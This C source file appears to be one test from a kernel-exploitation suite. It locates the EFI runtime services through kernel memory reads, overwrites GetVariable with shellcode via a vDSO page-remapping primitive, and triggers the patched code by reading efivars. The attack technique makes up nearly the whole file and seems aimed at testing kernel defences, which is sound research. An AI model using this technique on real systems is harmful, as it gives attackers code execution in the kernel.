// SPDX-License-Identifier: GPL-2.0-only
/*
 * Code of the firmware's run-time services, which the kernel calls for any user who
 * reads an EFI variable. Its pages are mapped for the attacker, who changes the first
 * instructions of one.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define VARIABLES	"/sys/firmware/efi/efivars"
#define EFI_SIZE	512	/* of struct efi, at most; begins with the table of services */
#define NR_SERVICES	64	/* descriptors of the map, at most */
#define GET_VARIABLE	72	/* in that table */
#define KERNEL_CS	0x10

/* struct efi_memory_map, from its second member on, in words */
enum { MAP, MAP_END, NR_MAP, DESC_VERSION, DESC_SIZE };

struct descriptor {
	uint32_t type, pad;
	uint64_t phys, virt, nr_pages, attribute;
};

/* mov $marker,%rax; mov %cs,%ecx; mov %ecx,(%rax); mov $EFI_NOT_FOUND,%rax; ret */
static unsigned char code[] = {
	0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0xc9, 0x89, 0x08,
	0x48, 0xb8, 0x0e, 0, 0, 0, 0, 0, 0, 0x80, 0xc3,
};
#define MARKER		2	/* where its address is in there */

static bool is_map(const uint64_t *words)
{
	return is_kernel_address(words[MAP]) && words[MAP_END] > words[MAP] &&
	       words[DESC_SIZE] >= sizeof(struct descriptor) &&
	       words[MAP_END] - words[MAP] == (uint32_t)words[NR_MAP] * words[DESC_SIZE];
}

static const uint64_t *find_map(const uint64_t *words)
{
	size_t i;

	for (i = 0; i < EFI_SIZE / sizeof(*words) - DESC_SIZE; i++)
		if (is_map(words + i))
			return words + i;
	return NULL;
}

/* Of an address at which the firmware finds itself. */
static uint64_t phys_of(const uint64_t *map, uint64_t virt)
{
	struct descriptor desc;
	uint64_t at;

	for (at = map[MAP]; at < map[MAP_END]; at += map[DESC_SIZE])
		if (!kread(at, &desc, sizeof(desc)) && virt >= desc.virt &&
		    virt - desc.virt < desc.nr_pages * PAGE_SIZE)
			return virt - desc.virt + desc.phys;
	return 0;
}

/* Reads or writes the firmware's memory, within a page. */
static bool reach(uint64_t phys, void *data, size_t size, bool write)
{
	uint64_t page = memory_map_base() + phys / PAGE_SIZE * STRUCT_PAGE;
	volatile char *at;
	int err;

	if (!phys || phys % PAGE_SIZE + size > PAGE_SIZE)
		return false;
	at = vdso_replace(page, &err);
	if (!at)
		return false;
	at += phys % PAGE_SIZE;
	if (write)
		memcpy((void *)at, data, size);
	else
		memcpy(data, (void *)at, size);
	vdso_put_back();
	return true;
}

static uint64_t find_service(void)
{
	uint64_t words[EFI_SIZE / sizeof(uint64_t)], service = 0, table;
	const uint64_t *map;

	if (!ksymbol("efi") || kread(ksymbol("efi"), words, sizeof(words)))
		return 0;
	map = find_map(words);
	table = map ? phys_of(map, words[0]) : 0;
	if (!table || !reach(table + GET_VARIABLE, &service, sizeof(service), false))
		return 0;
	return phys_of(map, service);
}

static void read_variables(void)
{
	char name[512], byte;
	struct dirent *entry;
	DIR *dir = opendir(VARIABLES);
	int fd;

	while (dir && (entry = readdir(dir))) {
		snprintf(name, sizeof(name), VARIABLES "/%s", entry->d_name);
		fd = open(name, O_RDONLY);
		if (fd < 0)
			continue;
		read(fd, &byte, 1);
		close(fd);
	}
	if (dir)
		closedir(dir);
}

enum outcome efi_code(void)
{
	unsigned char was[sizeof(code)];
	uint64_t service, marker;
	void *page;

	marker = direct_map_base() + user_page(&page);
	service = find_service();
	if (!service || !reach(service, was, sizeof(was), false))
		return broken("no run-time service of EFI found");
	memcpy(code + MARKER, &marker, sizeof(marker));
	reach(service, code, sizeof(code), true);
	read_variables();
	reach(service, was, sizeof(was), true);
	if (*(volatile uint32_t *)page == KERNEL_CS)
		return won("the kernel ran code that the attacker wrote over EFI's, by its CS: %#x",
			   *(volatile uint32_t *)page);
	return lost("EFI's code is as it was");
}
#else
enum outcome efi_code(void)
{
	return skipped("x86-64 only");
}
#endif
